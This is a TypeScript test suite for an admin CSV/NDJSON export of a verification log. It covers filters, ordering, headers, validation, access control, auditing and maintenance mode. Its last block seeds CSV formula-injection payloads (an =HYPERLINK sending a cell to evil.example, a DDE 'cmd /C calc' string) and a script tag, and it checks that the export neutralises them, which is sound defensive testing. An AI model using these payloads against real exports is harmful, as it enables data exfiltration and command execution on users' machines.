import { text } from 'node:stream/consumers';
import { ArchiveBench } from '../support/archive/archive-bench.js';
import {
  addAccount,
  beginExport,
  EXPORT,
  LOGS,
  rowsOf,
  type ExportedRow,
} from '../support/archive/export-bench.js';
import { expectAdminsOnly, expectInvalid } from '../support/http/expect-problem.js';

const NOON = Date.parse('2026-11-20T12:00:00.000Z');
const COLUMNS = [
  'id',
  'completionId',
  'userId',
  'taskId',
  'taskType',
  'verificationResult',
  'twitterApiResponse',
  'errorMessage',
  'rejectionReason',
  'verificationTime',
  'apiCallCount',
  'cacheHit',
  'twitterConnectionId',
  'verifiedAt',
  'username',
  'estimatedCostUsd',
];

let bench: ArchiveBench;

/** So many times with ten rows each: pages end among equal times. */
const times = (count: number, from = NOON) =>
  Array.from({ length: count }, (_, index) => new Date(from + Math.floor(index / 10) * 1_000));

beforeAll(async () => {
  bench = await ArchiveBench.open();
  const ada = await addAccount(bench, 1, 'Ada_1');
  const adam = await addAccount(bench, 2, 'adam');
  await bench.addLogs(times(230));
  await bench.addLogs(times(230), { ...ada, verificationResult: 'REJECTED', cacheHit: false });
  await bench.addLogs(times(15), { ...adam, verificationResult: 'ERROR', taskType: 'TWITTER_LIKE' });
});

afterAll(() => bench.close());

async function exported(query = ''): Promise<ExportedRow[]> {
  const response = await beginExport(bench.testApp, `format=ndjson&${query}`);
  expect(response.statusCode).toBe(200);
  return rowsOf(await text(response));
}

/** All pages of the list. */
async function listed(query: string): Promise<ExportedRow[]> {
  const rows: ExportedRow[] = [];
  for (let cursor: string | null = ''; cursor !== null;) {
    const page = await bench.admin.get(`${LOGS}?limit=100&${query}${cursor && `&cursor=${cursor}`}`);
    rows.push(...(page.body.data as ExportedRow[]));
    cursor = page.body.nextCursor as string | null;
  }
  return rows;
}

describe('the export of the verification log', () => {
  it.each([
    ['', 475],
    ['userId=user-1', 230],
    ['taskId=task-2', 15],
    ['completionId=completion-1&verificationResult=REJECTED', 230],
    ['taskType=TWITTER_LIKE', 15],
    ['cacheHit=false', 230],
    ['from=2026-11-20T12:00:01Z&to=2026-11-20T12:00:02.000Z', 25],
    ['search=ada', 245],
    ['search=ADAM', 15],
    ['search=task-1&cacheHit=false', 230],
    ['search=9002', 15],
    ['verificationResult=ERROR&cacheHit=false', 0],
  ])('should have the rows of the list in the same order: ?%s', async (query, count) => {
    const rows = await exported(query);
    expect(rows).toHaveLength(count);
    expect(rows).toEqual(await listed(query));
  });

  it('should be CSV with every column by default, as a download that is not cached', async () => {
    const response = await bench.admin.get(`${EXPORT}?search=adam`);
    const [head, firstLine, ...others] = response.text.split('\r\n');
    expect(head).toBe(COLUMNS.join(','));
    expect(firstLine).toBe(
      '"l000471","completion-2","user-2","task-2","TWITTER_LIKE","ERROR","{""text"":""\u2028 \\n 😀 l000471""}",,"",12,1,true,"connection-2",2026-11-20T12:00:01.000Z,"adam",0.005'.replaceAll(
        'l000471',
        /l\d{6}/.exec(firstLine ?? '')?.[0] ?? '',
      ),
    );
    expect(others).toHaveLength(15);
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'cache-control': 'no-store',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="verification-logs-\d{8}T\d{6}Z\.csv"$/,
      ),
    });
  });

  it('should be NDJSON on request, with a file name that says so', async () => {
    const { headers } = await bench.admin.get(`${EXPORT}?format=ndjson&verificationResult=ERROR`);
    expect(headers).toMatchObject({
      'content-type': 'application/x-ndjson',
      'content-disposition': expect.stringMatching(/\.ndjson"$/),
    });
  });

  it('should have a header and no rows when nothing passes the filters', async () => {
    const response = await bench.admin.get(`${EXPORT}?format=csv&userId=nobody`);
    expect([response.status, response.text]).toEqual([200, `${COLUMNS.join(',')}\r\n`]);
  });

  it.each([
    ['format=xlsx', 'format'],
    ['format=', 'format'],
    ['from=yesterday', 'from'],
    ['to=2026-01-31', 'to'],
    ['taskType=FOLLOW', 'taskType'],
    ['verificationResult=approved', 'verificationResult'],
    ['cacheHit=1', 'cacheHit'],
    ['userId=', 'userId'],
    [`search=${'x'.repeat(192)}`, 'search'],
    ['limit=10', 'limit'],
    ['cursor=abc', 'cursor'],
  ])('should refuse ?%s, naming the field', async (query, path) => {
    expectInvalid(await bench.admin.get(`${EXPORT}?${query}`), path);
  });

  it('should be open to admins only', async () => {
    await expectAdminsOnly(bench.testApp, EXPORT);
  });

  it('should record an audit event with the admin and the filters', async () => {
    const { database } = bench.testApp;
    await database.auditEvent.deleteMany();
    await exported('userId=user-2&cacheHit=true&from=2026-11-20T12:00:00Z');
    await bench.admin.get(`${EXPORT}?format=xlsx`);
    const events = await database.auditEvent.findMany();
    expect(events).toMatchObject([
      {
        actorId: 'the-admin',
        action: 'verification_logs.export',
        targetType: 'verification_logs',
        targetId: 'export',
        before: null,
        requestId: expect.any(String),
      },
    ]);
    expect(JSON.parse(events[0]?.after ?? '')).toEqual({
      format: 'ndjson',
      userId: 'user-2',
      cacheHit: true,
      from: '2026-11-20T12:00:00Z',
    });
  });

  it('should work in maintenance mode, and the statistics too', async () => {
    const { testApp } = bench;
    const authorization = await testApp.authorization('the-admin', ['admin']);
    const mode = (enabled: boolean) =>
      testApp.http().put('/v1/admin/maintenance/mode').set({ authorization }).send({ enabled });
    expect((await mode(true)).status).toBe(200);
    expect(await exported('search=adam')).toHaveLength(15);
    expect((await bench.admin.get(`${LOGS}/stats`)).body.total).toBe(475);
    await mode(false);
  });
});

describe('texts in an export that members control', () => {
  const FORMULA = `=HYPERLINK("https://evil.example/?"&A1;"click")`;
  const SCRIPT = '<script>alert("x")</script>';
  const REPLY = JSON.stringify({ text: `@SUM(1+1)*cmd|' /C calc'!A0`, name: SCRIPT, rest: [-1, FORMULA] });

  beforeAll(async () => {
    const hostile = await addAccount(bench, 3, '=1+cmd');
    await bench.addLogs([new Date(NOON)], {
      ...hostile,
      rejectionReason: `+1\r\n=2;-3`,
      errorMessage: FORMULA,
      twitterApiResponse: `\t${REPLY}`,
      verificationTime: -5,
    });
  });

  it('should be text that no spreadsheet runs as a formula, with negative numbers as numbers', async () => {
    const { text: csv } = await bench.admin.get(`${EXPORT}?userId=user-3`);
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    expect(csv.slice(csv.indexOf('\r\n') + 2)).toContain(
      [quoted(`'\t${REPLY}`), quoted(`'${FORMULA}`), quoted(`'+1\r\n'=2;'-3`), '-5', '1', 'true'].join(','),
    );
    expect(csv.endsWith(`${quoted("'=1+cmd")},0.005\r\n`)).toBe(true);
  });

  it('should be unchanged in NDJSON', async () => {
    expect(await exported('userId=user-3')).toMatchObject([
      {
        rejectionReason: `+1\r\n=2;-3`,
        errorMessage: FORMULA,
        twitterApiResponse: `\t${REPLY}`,
        verificationTime: -5,
        username: '=1+cmd',
      },
    ]);
  });
});
